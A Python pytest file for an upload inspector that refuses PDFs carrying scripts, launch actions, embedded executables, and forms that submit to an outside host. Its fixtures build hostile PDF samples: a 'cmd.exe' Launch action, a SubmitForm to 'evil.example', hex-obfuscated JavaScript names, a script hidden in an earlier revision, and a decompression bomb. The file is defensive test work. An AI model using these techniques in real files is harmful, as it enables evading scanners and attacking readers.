"""What is refused inside a PDF, wherever it hides."""

import io
import time
import zlib

import pikepdf
import pytest
from pikepdf import Array, Dictionary, Encryption, Name, ObjectStreamMode, Pdf, Stream, String

from tests.growth import assert_in_proportion
from tests.vendors.documents.test_inspection import ALL, PDF_BYTES, looking_into, refusal, upload
from vendors.documents.inspection import FILE_LIMIT, PDF, Refused, check

PERMISSIONS = Encryption(owner="sandberg", user="")


def pdf(change=lambda document: None, *, packed=True, encryption=None) -> bytes:
    document = pikepdf.new()
    document.add_blank_page()
    change(document)
    file = io.BytesIO()
    mode = ObjectStreamMode.generate if packed else ObjectStreamMode.disable
    document.save(file, object_stream_mode=mode, encryption=encryption)
    return file.getvalue()


def restricted(*, R: int, aes: bool = False) -> Encryption:
    weak = {} if R == 6 else {"aes": aes, "metadata": aes}
    allowed = pikepdf.Permissions(print_lowres=False, print_highres=False)
    return Encryption(owner="sandberg", user="", R=R, allow=allowed, **weak)


def opens_with(**action):
    return lambda document: setattr(document.Root, "OpenAction", document.make_indirect(Dictionary(**action)))


def script_by_an_indirect_name(document: Pdf) -> None:
    name = document.make_indirect(Name.JavaScript)
    document.Root.OpenAction = document.make_indirect(Dictionary(S=name, JS=String("app.alert(1)")))


def script_in_the_names(document: Pdf) -> None:
    action = document.make_indirect(Dictionary(S=Name.JavaScript, JS=String("app.alert(1)")))
    document.Root.Names = Dictionary(JavaScript=Dictionary(Names=Array([String("a"), action])))


def embedded_file(document: Pdf) -> None:
    document.attachments["setup.exe"] = b"MZ"


def file_in_an_annotation(document: Pdf) -> None:
    file = document.make_indirect(
        Dictionary(Type=Name.Filespec, F=String("a.exe"), EF=Dictionary(F=Stream(document, b"MZ")))
    )
    note = Dictionary(Type=Name.Annot, Subtype=Name.Text, FS=file, Rect=Array([0, 0, 1, 1]))
    document.pages[0].Annots = Array([document.make_indirect(note)])


def rich_media(document: Pdf) -> None:
    note = Dictionary(Type=Name.Annot, Subtype=Name.RichMedia, Rect=Array([0, 0, 1, 1]))
    document.pages[0].Annots = Array([document.make_indirect(note)])


def form_in_xml(document: Pdf) -> None:
    document.Root.AcroForm = document.make_indirect(Dictionary(XFA=Stream(document, b"<script/>"), Fields=Array()))


HIDDEN = {
    "script": opens_with(S=Name.JavaScript, JS=String("app.alert(1)")),
    "script by an indirect name": script_by_an_indirect_name,
    "script in the names": script_in_the_names,
    "program": opens_with(S=Name.Launch, F=String("cmd.exe")),
    "form that sends itself": opens_with(S=Name.SubmitForm, F=String("https://evil.example")),
    "imported data": opens_with(S=Name.ImportData, F=String("a.fdf")),
    "embedded file": embedded_file,
    "file in an annotation": file_in_an_annotation,
    "rich media": rich_media,
    "form in XML": form_in_xml,
}


@pytest.mark.parametrize("packed", [True, False], ids=["packed", "in clear"])
@pytest.mark.parametrize("change", HIDDEN.values(), ids=HIDDEN.keys())
def test_what_is_more_than_pages_is_refused(change, packed):
    assert "contains a program or another file" in refusal(pdf(change, packed=packed), "cv.pdf")


@pytest.mark.parametrize("change", HIDDEN.values(), ids=HIDDEN.keys())
def test_what_an_encrypted_file_hides_is_refused(change):
    assert "contains a program or another file" in refusal(pdf(change, encryption=PERMISSIONS), "cv.pdf")


@pytest.mark.parametrize(
    "action",
    [
        b"/S /J#61vaScript",
        b"/S/#4a#61#76#61#53#63#72#69#70#74/JS(a)",
        b"/S/Launch",
        b"/S /Submit#46orm",
        b"/S %\n/GoToE",
    ],
)
def test_names_are_read_however_they_are_spelled(action):
    content = PDF_BYTES.replace(b"/Catalog", b"/Catalog /OpenAction << " + action + b" >>")

    assert "contains a program or another file" in refusal(content, "cv.pdf")


def test_what_an_earlier_version_of_the_file_holds_is_refused():
    """A reader that mends a damaged file may show it."""
    old = pdf(HIDDEN["script"], packed=False)

    assert "contains a program or another file" in refusal(old + pdf(), "cv.pdf")


def links_and_text(document: Pdf) -> None:
    link = Dictionary(S=Name.URI, URI=String("https://ana.example/JavaScript"))
    note = Dictionary(Type=Name.Annot, Subtype=Name.Link, Rect=Array([0, 0, 1, 1]), A=link)
    document.pages[0].Annots = Array([document.make_indirect(note)])
    document.docinfo.Title = "I know /JavaScript and /Launch (both)"
    document.Root.OpenAction = Array([document.pages[0].obj, Name.Fit])


@pytest.mark.parametrize(
    "content",
    [
        pdf(links_and_text),
        pdf(encryption=PERMISSIONS),
        pdf(encryption=restricted(R=2)),
        pdf(encryption=restricted(R=3)),
        pdf(encryption=restricted(R=4, aes=True)),
        pdf(encryption=restricted(R=4, aes=True), packed=False),
        pdf(encryption=restricted(R=6), packed=False),
        pdf(packed=False),
        b"%PDF-1.4\nxref is lost\n" + pdf(packed=False)[9:],
        PDF_BYTES,
    ],
    ids=[
        "links and text",
        "restricted printing",
        "RC4, 40 bits",
        "RC4, 128 bits",
        "AES-128",
        "AES-128, in clear",
        "AES-256, in clear",
        "in clear",
        "table out of place",
        "smallest",
    ],
)
def test_ordinary_file_is_taken(content):
    assert check(upload(content, "cv.pdf"), kinds=ALL) == PDF


def test_file_that_needs_a_password_is_refused():
    assert "is protected with a password" in refusal(pdf(encryption=Encryption(owner="a", user="b")), "cv.pdf")


def damaged() -> bytes:
    content = bytearray(pdf(HIDDEN["script"]))
    at = content.index(b"/ObjStm")
    start = content.index(b"stream", at) + 20
    content[start : start + 10] = b"\0" * 10
    return bytes(content)


def bomb(size: int = 600 * 2**20) -> bytes:
    """An object stream that unpacks to more than there is memory for, with a script at its end."""
    packer = zlib.compressobj(9)
    data = packer.compress(b"4 0 ") + b"".join(packer.compress(b" " * 2**20) for _ in range(size // 2**20))
    data += packer.compress(b"<< /S /JavaScript >>") + packer.flush()
    start = (
        b"%PDF-1.5\n1 0 obj\n<< /Type /Catalog /Pages 2 0 R /OpenAction 4 0 R >>\nendobj\n"
        b"2 0 obj\n<< /Type /Pages /Kids [3 0 R] /Count 1 >>\nendobj\n"
        b"3 0 obj\n<< /Type /Page /Parent 2 0 R /MediaBox [0 0 9 9] >>\nendobj\n"
        b"5 0 obj\n<< /Type /ObjStm /N 1 /First 4 /Filter /FlateDecode /Length " + str(len(data)).encode()
    )
    return start + b" >>\nstream\n" + data + b"\nendstream\nendobj\ntrailer\n<< /Root 1 0 R >>\n%%EOF\n"


@pytest.mark.parametrize("content", [damaged(), bomb()], ids=["damaged", "bomb"])
def test_what_cannot_be_looked_into_is_refused(content):
    with pytest.raises(Refused):
        check(upload(content, "cv.pdf"), kinds=ALL)


START, END = b"%PDF-1.7\n1 0 obj\n", b"\ntrailer\n<< /Root 1 0 R >>\n%%EOF\n"


REPEATED = rb"#41 # / /#4a /JavaScrip << [ ( 1 \0 % obj startxref trailer stream /Encrypt".split(b" ") + [
    b"1 ",
    b"1 0 obj ",
    b"trailer<<>>",
    b"\0",
    b"PK\1\2",
    b"PK\5\6",
    b"\xff",
]


@pytest.mark.parametrize("repeated", REPEATED)
def test_hostile_file_takes_no_longer_than_its_length(repeated):
    def content(length: int) -> bytes:
        return START + repeated * (length // len(repeated)) + END

    assert_in_proportion(lambda length: looking_into(content(length), "cv.pdf"), length=FILE_LIMIT - 100)


def test_looking_into_a_file_has_a_limit_of_time_and_memory():
    content = START + b"[" + b"1 " * (5 * 2**20 - 500) + b"] endobj 2 0 obj << >> stream endstream" + END
    started = time.perf_counter()

    assert "too complicated" in refusal(content, "cv.pdf")

    assert time.perf_counter() - started < 10
